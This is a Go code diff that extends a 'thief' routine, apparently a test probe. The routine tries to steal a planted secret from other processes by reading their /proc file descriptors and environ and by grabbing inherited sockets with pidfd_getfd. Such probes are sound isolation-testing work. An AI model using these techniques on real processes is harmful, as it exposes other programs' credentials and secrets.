@@ -113,7 +113,7 @@ func (t *thief) open(pid int) (mem, maps *os.File) {
 func (t *thief) rob(pid int) {
 	var mem, maps *os.File
 	for began := time.Now(); time.Since(began) < 300*time.Millisecond; {
-		for _, name := range []string{"fd/3", "fd/4", "environ"} {
+		for _, name := range []string{"fd/3", "fd/4", "fd/5", "environ"} {
 			if b, err := readSome(fmt.Sprintf("/proc/%d/%s", pid, name)); err == nil && bytes.Contains(b, t.needle) {
 				t.say("stolen from %s of %d", name, pid)
 				return
@@ -153,17 +153,21 @@ func (t *thief) ask(pid int) {
 		return
 	}
 	defer unix.Close(fd)
-	got, err := unix.PidfdGetfd(fd, 3, 0)
-	if err != nil {
-		return
+	for inherited := 3; inherited <= 5; inherited++ {
+		got, err := unix.PidfdGetfd(fd, inherited, 0)
+		if err != nil {
+			continue
+		}
+		t.say("file %d of %d is open", inherited, pid)
+		if _, err := unix.GetsockoptInt(got, unix.SOL_SOCKET, unix.SO_TYPE); err == nil {
+			_, _ = unix.Write(got, []byte("ready\n"))
+			b := make([]byte, 1<<20)
+			if n, err := unix.Read(got, b); err == nil && bytes.Contains(b[:n], t.needle) {
+				t.say("stolen from the socket of %d", pid)
+			}
+		}
+		_ = unix.Close(got)
 	}
-	t.say("the socket of %d is open", pid)
-	_, _ = unix.Write(got, []byte("ready\n"))
-	b := make([]byte, 1<<20)
-	if n, err := unix.Read(got, b); err == nil && bytes.Contains(b[:n], t.needle) {
-		t.say("stolen from the socket of %d", pid)
-	}
-	_ = unix.Close(got)
 }
 
 // search looks for the needle in all of a process's memory.
